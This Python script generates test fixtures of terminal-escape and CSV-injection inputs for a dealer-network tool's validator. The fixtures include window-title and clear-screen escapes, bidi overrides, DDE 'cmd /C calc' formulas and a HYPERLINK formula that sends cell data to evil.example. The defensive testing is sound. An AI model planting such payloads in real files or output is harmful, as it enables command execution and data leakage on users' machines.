"""Regenerate the terminal- and CSV-injection inputs: ``python tests/data/bad/terminal/make.py``.

Dealer names, owners and cities that hold terminal escape sequences (a window title, a
clear screen, colours, the one-byte CSI U+009B, carriage return and backspace that
overwrite, bidirectional overrides that reorder text), and values a spreadsheet would run
as formulas. Every file is small and written byte for byte the same on every run.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
SAMPLE = HERE.parents[3] / "src" / "dealernet" / "_data" / "networks" / "sample"
DEFAULT_SCENARIO = (
    HERE.parents[3] / "src" / "dealernet" / "_data" / "scenarios" / "consolidation.toml"
)

ESC = "\x1b"
TITLE = f"{ESC}]0;pwned\x07"  # OSC 0: sets the window title
CLEAR = f"{ESC}[2J"  # CSI 2 J: clears the screen
RED = f"{ESC}[31m"  # CSI colour
C1_CSI = "\x9b2J"  # the one-byte CSI of C1 (U+009B): clears the screen on some terminals
RLO = "\u202e"  # right-to-left override: "Trojan Source"
ISOLATES = "\u2066\u2067\u2068\u2069"

#: Name, owner group and city of each hostile store (the rest of its row is a sample store).
HOSTILE = [
    (f"Infiniti {TITLE}of Anchorage", f"Title {TITLE}Group", "Anchorage"),
    (f"Infiniti of {CLEAR}Mobile", f"Clear {CLEAR}Motors", f"Mob{CLEAR}ile"),
    (f"{RED}Infiniti Red{ESC}[0m", "Crimson Auto Group", f"Phoenix{C1_CSI}"),
    (f"Infiniti {RLO}evil{ISOLATES}", f"Bidi {RLO}Group", "Tucson"),
    ("Infiniti\b\b\b\bSafe \u200bStore", "Backspace Holdings", "Little Rock"),
]

#: A CSV with this many C0 control bytes is taken for binary and refused by the reader, so
#: the CSV holds fewer: a window title and a clear screen (3 bytes); C1 and bidi characters
#: are not C0 bytes. The GeoJSON holds every sequence of :data:`HOSTILE` (as ``\u001b``).
CSV_HOSTILE = [
    (f"Infiniti {TITLE}of Anchorage", "Granite Point Auto Partners", "Anchorage"),
    (f"Infiniti of {CLEAR}Mobile", "Copper Rock Auto Partners", "Mobile"),
    ("Infiniti Phoenix", "Crimson Auto Group", f"Phoenix{C1_CSI}"),
    (f"Infiniti {RLO}evil{ISOLATES}", f"Bidi {RLO}Group", "Tucson"),
]


def _sample_rows(brand_file: str) -> tuple[list[str], list[list[str]]]:
    with (SAMPLE / brand_file).open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def _csv_text(header: list[str], rows: list[list[str]]) -> str:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows([header, *rows])
    return text.getvalue()


def hostile_rows(
    names: list[tuple[str, str, str]], carriage_return: bool = False
) -> tuple[list[str], list[list[str]]]:
    """The first sample Infiniti stores, renamed after ``names``; with ``carriage_return``
    a city holds a CR too (the CSV reader would take a CR for a line end)."""
    header, rows = _sample_rows("infiniti.csv")
    name, owner, city = header.index("name"), header.index("owner_group"), header.index("city")
    out = []
    for row, (new_name, new_owner, new_city) in zip(rows, names, strict=False):
        row = list(row)
        row[name], row[owner], row[city] = new_name, new_owner, new_city
        out.append(row)
    if carriage_return:
        out[3][city] = "Tuc\rson"
    return header, out


def hostile_csv() -> str:
    return _csv_text(*hostile_rows(CSV_HOSTILE))


def hostile_geojson() -> str:
    """The same stores as GeoJSON points (strings hold the escapes as JSON ``\\u001b``)."""
    header, rows = hostile_rows(HOSTILE, carriage_return=True)
    lat, lon = header.index("latitude"), header.index("longitude")
    features = []
    for row in rows:
        props = {
            k: v for k, v in zip(header, row, strict=True) if k not in ("latitude", "longitude")
        }
        geometry = {"type": "Point", "coordinates": [float(row[lon]), float(row[lat])]}
        features.append({"type": "Feature", "properties": props, "geometry": geometry})
    return json.dumps({"type": "FeatureCollection", "features": features}, indent=1) + "\n"


def bad_value_csv() -> str:
    """Three stores whose bad values hold escapes: the validator quotes each one."""
    header, rows = _sample_rows("infiniti.csv")
    rows = [list(r) for r in rows[:3]]
    rows[0][header.index("latitude")] = f"{CLEAR}61.2"
    rows[1][header.index("longitude")] = f"{TITLE}-88.0"
    rows[2][header.index("latitude")] = f"{RLO}33.4{C1_CSI}"
    return _csv_text(header, rows)


def markup_value_csv() -> str:
    """A bad value that is rich markup: it must print as itself, not style or crash."""
    header, rows = _sample_rows("infiniti.csv")
    rows = [list(r) for r in rows[:2]]
    rows[0][header.index("latitude")] = "[/bold][red]61.2"
    return _csv_text(header, rows)


def formula_csv() -> str:
    """Bad values a spreadsheet would run, for ``validate --problems``."""
    header, rows = _sample_rows("infiniti.csv")
    rows = [list(r) for r in rows[:5]]
    rows[0][header.index("latitude")] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows[1][header.index("longitude")] = "+cmd|' /C calc'!A0"
    rows[2][header.index("latitude")] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[3][header.index("longitude")] = "-2+3+cmd|' /C calc'!A0"
    rows[4][header.index("latitude")] = "\t=1+1"
    return _csv_text(header, rows)


def formula_names_csv() -> str:
    """Valid stores whose names and owners are formulas, for the CSVs a run writes."""
    header, rows = _sample_rows("infiniti.csv")
    rows = [list(r) for r in rows[:4]]
    name, owner = header.index("name"), header.index("owner_group")
    rows[0][name] = '=HYPERLINK("http://evil.example","Infiniti of Anchorage")'
    rows[1][name] = "@SUM(1+1)"
    rows[2][owner] = "=cmd|' /C calc'!A0"
    rows[3][name] = "+Infiniti of Tucson"
    return _csv_text(header, rows)


def hostile_scenario() -> str:
    """The bundled default scenario, named with a window title and a bidi override."""
    text = DEFAULT_SCENARIO.read_text(encoding="utf-8")
    old = 'name = "Consolidation: most stand-alone Infiniti stores into Nissan sites"'
    assert old in text
    return text.replace(old, 'name = "Plan \\u001b]0;pwned\\u0007 \\u001b[2J \\u202eevil"', 1)


FILES = {
    "hostile_names.csv": hostile_csv,
    "hostile_names.geojson": hostile_geojson,
    "bad_value_escapes.csv": bad_value_csv,
    "markup_value.csv": markup_value_csv,
    "formula_values.csv": formula_csv,
    "formula_names.csv": formula_names_csv,
    "hostile_scenario.toml": hostile_scenario,
}


def main() -> None:
    for name, make in FILES.items():
        (HERE / name).write_bytes(make().encode("utf-8"))


if __name__ == "__main__":
    main()
